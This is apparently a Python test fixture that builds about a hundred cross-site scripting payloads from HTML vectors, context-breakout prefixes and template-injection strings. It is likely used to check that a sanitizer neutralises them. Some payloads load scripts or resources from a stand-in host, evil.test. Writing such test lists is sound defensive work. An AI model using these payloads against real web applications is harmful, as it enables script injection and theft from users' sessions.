"""A hundred ways to run a script or to call home from a piece of text; each would be seen as `hit` or as a request."""

# What runs or loads: the first three call home, the others call `hit` or open a dialog.
VECTORS = (
    "<img src=//evil.test/p>",
    "<link rel=stylesheet href=//evil.test/p>",
    "<iframe src=//evil.test/p></iframe>",
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script src=//evil.test/p.js></script>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()//",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<form action=javascript:hit()><button>x",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=javascript:hit()>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<style>@import'//evil.test/p'</style>",
    "<math><mtext><style><img src=x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<p style=background:url(//evil.test/p)>",
)
# What gets out of the place where the text stands: nothing, an attribute, an element, a string of a script.
WAYS_OUT = ("", '">', "</title></textarea></script>", "');hit();//'-->")
# What needs no element: addresses, templates, escapes.
OTHERS = (
    "javascript:hit()",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "{{ config }}{% raw %}${alert(1)}",
    '" onmouseover=hit() autofocus onfocus=hit() x="',
)
PAYLOADS = (*(way + vector for way in WAYS_OUT for vector in VECTORS), *OTHERS)
